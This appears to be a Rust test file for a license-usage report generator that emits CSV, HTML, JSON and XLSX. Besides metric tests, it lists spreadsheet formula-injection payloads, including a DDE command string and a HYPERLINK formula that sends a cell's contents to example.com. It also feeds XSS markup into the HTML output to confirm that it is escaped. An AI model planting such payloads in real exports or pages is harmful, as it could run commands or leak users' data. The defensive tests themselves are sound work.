use proptest::option;
use proptest::prelude::*;

use super::*;

fn at(text: &str) -> Timestamp {
    Timestamp::parse_rfc3339(text).unwrap()
}

fn request(primary_key: PrimaryKey) -> Request {
    let as_of = at("2026-03-04T12:00:00Z");
    Request { primary_key, from: Some(at("2026-03-01T00:00:00Z")), to: None, as_of }
}

fn session<'a>(machine_id: &'a str, username: Option<&'a str>, start: &str, end: Option<&str>) -> Session<'a> {
    let names = Session {
        machine_id,
        username,
        client_username: Some("root"),
        client_hostname: None,
        started_at: at(start),
        ended_at: None,
        is_ci: false,
    };
    Session { ended_at: end.map(at), ..names }
}

/// Three machines of two people, one of them a pipeline that still runs, and a session of the month before.
fn report(primary_key: PrimaryKey) -> Report {
    let mut tally = Tally::new(request(primary_key));
    let running = session("m3", None, "2026-03-04T11:00:00Z", None);
    for session in [
        session("m2", Some("ann"), "2026-03-02T10:00:00Z", Some("2026-03-02T16:00:00Z")),
        session("m1", Some("ann"), "2026-03-01T00:00:00Z", Some("2026-03-01T06:00:00Z")),
        session("m1", Some("bob"), "2026-03-02T12:00:00Z", Some("2026-03-03T00:00:00Z")),
        session("m1", Some("bob"), "2026-02-28T23:59:59Z", Some("2026-03-01T23:59:59Z")),
        Session { is_ci: true, ..running },
    ] {
        tally.session(&session);
    }
    tally.seat(at("2026-02-01T00:00:00Z"), Some(at("2026-03-02T00:00:00Z")));
    tally.seat(at("2026-03-02T00:00:00Z"), None);
    tally.seat(at("2026-03-03T00:00:00Z"), Some(at("2026-03-03T00:00:00Z")));
    tally.cap(at("2026-03-02T12:00:00Z"), Some(1));
    let general = General { total_licenses: 2, tier: Some("Enterprise".to_owned()), ..General::default() };
    let expiring = |id: &str, day| Expiring {
        license_id: id.to_owned(),
        tenant_id: "acme".to_owned(),
        label: None,
        expires_at: at(day),
    };
    let soon = vec![expiring("lic-2", "2026-04-01T00:00:00Z"), expiring("lic-1", "2026-03-31T00:00:00Z")];
    tally.finish(general, soon)
}

fn text(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).unwrap()
}

#[test]
fn users_are_told_apart_by_the_primary_key() {
    insta::assert_snapshot!(text(csv::users(&report(PrimaryKey::MachineId))), @"
    machine_id,first_active,last_seen,total_session_time_in_days,total_session_count,average_session_duration_in_days,average_daily_sessions
    m1,2026-03-01T00:00:00Z,2026-03-03T00:00:00Z,0.750000,2,0.375000,0.571
    m2,2026-03-02T10:00:00Z,2026-03-02T16:00:00Z,0.250000,1,0.250000,0.286
    m3,2026-03-04T11:00:00Z,2026-03-04T12:00:00Z,0.041667,1,0.041667,0.286
    ");
    insta::assert_snapshot!(text(csv::users(&report(PrimaryKey::Username))), @"
    username,first_active,last_seen,total_session_time_in_days,total_session_count,average_session_duration_in_days,average_daily_sessions
    ,2026-03-04T11:00:00Z,2026-03-04T12:00:00Z,0.041667,1,0.041667,0.286
    ann,2026-03-01T00:00:00Z,2026-03-02T16:00:00Z,0.500000,2,0.250000,0.571
    bob,2026-03-02T12:00:00Z,2026-03-03T00:00:00Z,0.500000,1,0.500000,0.286
    ");
    let of = |key| report(key).users.into_iter().map(|user| (user.key, user.session_count)).collect::<Vec<_>>();
    assert_eq!(of(PrimaryKey::ClientUsername), [(Some("root".to_owned()), 4)]);
    assert_eq!(of(PrimaryKey::ClientHostname), [(None, 4)]);
}

#[test]
fn the_general_figures() {
    insta::assert_snapshot!(text(csv::general(&report(PrimaryKey::Username))), @"
    metric,value
    from,2026-03-01T00:00:00Z
    to,2026-03-04T12:00:00Z
    as_of,2026-03-04T12:00:00Z
    licenses_acquired,2
    unique_usernames,2
    tier,Enterprise
    total_session_count,4
    total_session_time_in_days,1.041667
    ci_session_count,1
    ci_sessions_running,1
    ci_sessions_at_once,1
    average_ci_session_duration_in_days,0.041667
    all_time_session_count,5
    all_time_session_time_in_days,2.041667
    all_time_ci_session_count,1
    ");
}

#[test]
fn seats_and_caps_by_day() {
    let report = report(PrimaryKey::MachineId);
    let steps: Vec<_> = report.steps.iter().map(|step| (step.session_count, step.seats, step.cap)).collect();
    // The seat that is given back at midnight and the one taken then are never both held.
    assert_eq!(steps, [(1, 1, None), (2, 1, Some(1)), (0, 2, Some(1)), (1, 1, Some(1))]);
    assert_eq!((report.days_per_step, report.steps[0].day), (1, at("2026-03-01T00:00:00Z")));
}

#[test]
fn json_for_programs() {
    insta::assert_snapshot!(json::readable(&report(PrimaryKey::Username)), @r#"{"allTimeMetrics":{"totalCiSessionCount":1,"totalSessionCount":5,"totalSessionTimeSeconds":176400},"asOf":"2026-03-04T12:00:00Z","ciMetrics":{"avgCiSessionDurationSeconds":3600,"currentRunningSessions":1,"maxConcurrentCiSessions":1,"totalCiSessions":1},"daysPerStep":1,"expiringSoon":[{"expiresAt":"2026-03-31T00:00:00Z","licenseId":"lic-1","tenantId":"acme"},{"expiresAt":"2026-04-01T00:00:00Z","licenseId":"lic-2","tenantId":"acme"}],"generalMetrics":{"activeUsers":2,"reportPeriod":{"from":"2026-03-01T00:00:00Z","to":"2026-03-04T12:00:00Z"},"tier":"Enterprise","totalLicenses":2},"primaryKey":"username","steps":[{"day":"2026-03-01T00:00:00Z","seats":1,"sessions":1},{"cap":1,"day":"2026-03-02T00:00:00Z","seats":1,"sessions":2},{"cap":1,"day":"2026-03-03T00:00:00Z","seats":2,"sessions":0},{"cap":1,"day":"2026-03-04T00:00:00Z","seats":1,"sessions":1}],"userMetrics":[{"averageDailySessions":"0.286","averageSessionDurationSeconds":3600,"firstActive":"2026-03-04T11:00:00Z","lastSeen":"2026-03-04T12:00:00Z","totalSessionCount":1,"totalSessionTimeSeconds":3600},{"averageDailySessions":"0.571","averageSessionDurationSeconds":21600,"firstActive":"2026-03-01T00:00:00Z","lastSeen":"2026-03-02T16:00:00Z","totalSessionCount":2,"totalSessionTimeSeconds":43200,"username":"ann"},{"averageDailySessions":"0.286","averageSessionDurationSeconds":43200,"firstActive":"2026-03-02T12:00:00Z","lastSeen":"2026-03-03T00:00:00Z","totalSessionCount":1,"totalSessionTimeSeconds":43200,"username":"bob"}]}"#);
}

#[test]
fn a_period_without_a_beginning_begins_with_what_is_first_in_it() {
    let mut tally = Tally::new(Request { from: None, ..request(PrimaryKey::MachineId) });
    tally.session(&session("m1", None, "1999-01-01T12:00:00Z", Some("1999-01-01T11:00:00Z")));
    let report = tally.finish(General::default(), Vec::new());
    assert_eq!((report.from, report.to), (at("1999-01-01T12:00:00Z"), at("2026-03-04T12:00:00Z")));
    assert_eq!((report.users[0].session_seconds, report.users[0].last_seen), (0, at("1999-01-01T12:00:00Z")));
    // 9,925 days, and never more than 120 steps.
    assert_eq!((report.days_per_step, report.steps.len()), (83, 120));
    let nothing = Tally::new(request(PrimaryKey::MachineId)).finish(General::default(), Vec::new());
    assert_eq!((nothing.users.len(), nothing.steps.len(), nothing.ci.average_seconds), (0, 4, None));
    assert_eq!(text(csv::users(&nothing)).lines().count(), 1);
}

#[test]
fn decimals_are_rounded_half_up() {
    for (numerator, denominator, places, expected) in [
        (1, 3, 3, "0.333"),
        (2, 3, 3, "0.667"),
        (1, 2, 0, "1"),
        (5, 1_000, 2, "0.01"),
        (86_400, 86_400, 6, "1.000000"),
        (7, 0, 1, "7.0"),
        (u64::MAX, 1, 18, "18446744073709551615.000000000000000000"),
    ] {
        assert_eq!(decimal(numerator, denominator, places), expected);
    }
}

/// What spreadsheets have been made to compute, and what leads to it.
const FORMULAS: [&str; 15] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=HYPERLINK(\"http://example.com?x=\"&A1,\"click\")",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "\u{a0}=1",
];

fn hostile(key: &str) -> Report {
    let mut tally = Tally::new(request(PrimaryKey::MachineId));
    tally.session(&session(key, None, "2026-03-02T10:00:00Z", None));
    let general = General { tier: Some(key.to_owned()), operator_version: Some(key.to_owned()), ..General::default() };
    let license = Expiring {
        license_id: key.to_owned(),
        tenant_id: key.to_owned(),
        label: Some(key.to_owned()),
        expires_at: at("2026-04-01T00:00:00Z"),
    };
    tally.finish(general, vec![license])
}

#[test]
fn no_field_of_csv_is_a_formula() {
    for formula in FORMULAS {
        for table in [csv::users(&hostile(formula)), csv::general(&hostile(formula))] {
            let mut reader = ::csv::Reader::from_reader(table.as_slice());
            let fields: Vec<String> =
                reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
            assert!(fields.contains(&format!("'{formula}")), "{fields:?}");
            assert!(
                !fields.iter().any(|field| field.trim_start().starts_with(['=', '+', '-', '@', '＝'])),
                "{fields:?}"
            );
        }
    }
    let plain = text(csv::users(&hostile("a=b-c@d")));
    assert!(plain.contains("\r\na=b-c@d,"), "{plain}");
}

#[test]
fn the_page_fetches_and_runs_nothing() {
    for markup in ["<script>alert(1)</script>", "\"><img src=x onerror=y>", "</title></style>", "'&amp;", "a\u{202e}b"]
    {
        let page = html::page(&hostile(markup));
        assert!(!page.contains(markup), "{markup}");
        assert_eq!(
            page.matches("<script").count() + page.matches("<img").count() + page.matches("</style>").count(),
            1
        );
    }
    let page = html::page(&report(PrimaryKey::MachineId));
    for outside in ["http:", "https:", "//", "url(", "@import", " src=", " href=", "<link", "<script", "javascript:"] {
        assert!(!page.contains(outside), "{outside}");
    }
}

#[test]
fn every_form_is_found_by_its_name() {
    let report = report(PrimaryKey::MachineId);
    let starts =
        [("csv", "machine_id,"), ("html", "<!doctype html>"), ("json", r#"{"allTimeMetrics""#), ("xlsx", "PK")];
    for (name, start) in starts {
        let format = Format::parse(name).unwrap();
        assert!(report.spell(format).unwrap().starts_with(start.as_bytes()), "{name}");
        assert!(format.media_type().contains('/') && format.as_str() == name);
    }
    assert_eq!((Format::ALL.len(), Format::parse("pdf")), (starts.len(), None));
    for key in PrimaryKey::ALL {
        assert_eq!(PrimaryKey::parse(key.as_str()), Some(key));
    }
}

#[test]
fn the_same_values_make_the_same_bytes() {
    let (one, other) = (report(PrimaryKey::MachineId), report(PrimaryKey::MachineId));
    for format in Format::ALL {
        assert_eq!(one.spell(format), other.spell(format));
    }
}

fn signed(report: Report) -> Signed {
    Signed { proof_id: "p-1".to_owned(), license_id: "l".to_owned(), report }
}

#[test]
fn a_payload_that_demands_more_is_refused() {
    let payload = json::payload(&signed(report(PrimaryKey::MachineId)));
    let more = payload.replacen(r#""daysPerStep""#, r#""crit":["quota"],"daysPerStep""#, 1);
    assert_eq!(json::parse(more.as_bytes()).unwrap_err().code(), Code::Unsupported);
}

#[test]
fn a_payload_of_another_form_is_refused() {
    let payload = json::payload(&signed(report(PrimaryKey::MachineId)));
    for (good, bad) in [
        (r#""asOf":1772625600"#, r#""asOf":"2026-03-04T12:00:00Z""#),
        (r#""primaryKey":"machine_id""#, r#""primaryKey":"machine""#),
        (r#""steps":["#, r#""stairs":["#),
        (r#""totalLicenses":2"#, r#""totalLicenses":2.0"#),
        (r#""machineId":"m1""#, r#""machineId":1"#),
        (r#""proofId":"p-1""#, r#""proof":"p-1""#),
    ] {
        let changed = payload.replacen(good, bad, 1);
        assert_ne!(changed, payload);
        let error = json::parse(changed.as_bytes()).unwrap_err();
        assert_eq!(error.code(), Code::Malformed, "{error}");
    }
}

prop_compose! {
    fn any_session()(
        machine in "[a-c\u{e9}=\"]{0,2}",
        username in option::of("[a-z]{0,1}"),
        start in 0_i64..40_000_000,
        length in option::of(-100_i64..10_000_000),
        is_ci in any::<bool>(),
    ) -> (String, Option<String>, i64, Option<i64>, bool) {
        (machine, username, start, length.map(|length| start + length), is_ci)
    }
}

proptest! {
    #[test]
    fn a_payload_says_all_that_the_report_says(
        sessions in prop::collection::vec(any_session(), 0..20),
        key in prop::sample::select(PrimaryKey::ALL.to_vec()),
        from in option::of(0_i64..20_000_000),
        label in option::of(".{0,8}"),
    ) {
        let seconds = |seconds: i64| Timestamp::from_seconds(seconds.max(0)).unwrap();
        let as_of = seconds(30_000_000);
        let ask = Request { primary_key: key, from: from.map(seconds), to: None, as_of };
        let (mut tally, mut reversed) = (Tally::new(ask), Tally::new(ask));
        let rows: Vec<Session<'_>> = sessions.iter().map(|(machine_id, username, start, end, is_ci)| Session {
            machine_id,
            username: username.as_deref(),
            client_username: Some(machine_id),
            client_hostname: username.as_deref(),
            started_at: seconds(*start),
            ended_at: end.map(seconds),
            is_ci: *is_ci,
        }).collect();
        for session in &rows {
            tally.session(session);
            tally.seat(session.started_at, session.ended_at);
        }
        for session in rows.iter().rev() {
            reversed.session(session);
            reversed.seat(session.started_at, session.ended_at);
        }
        let general = General { operator_version: label.clone(), last_operator_event: Some(as_of), ..General::default() };
        let license = Expiring { license_id: "l".to_owned(), tenant_id: "t".to_owned(), label, expires_at: as_of };
        let report = tally.finish(general.clone(), vec![license.clone()]);
        prop_assert_eq!(&report, &reversed.finish(general, vec![license]));
        let signed = signed(report);
        let (payload, report) = (json::payload(&signed), &signed.report);
        prop_assert_eq!(&json::parse(payload.as_bytes()).unwrap(), &signed);
        prop_assert_eq!(crate::json::canonical(&crate::json::parse(payload.as_bytes()).unwrap()), payload);
        let readable = json::readable(report);
        prop_assert_eq!(crate::json::canonical(&crate::json::parse(readable.as_bytes()).unwrap()), readable);
        prop_assert_eq!(report.session_count(), report.steps.iter().map(|step| step.session_count).sum::<u64>());
    }
}
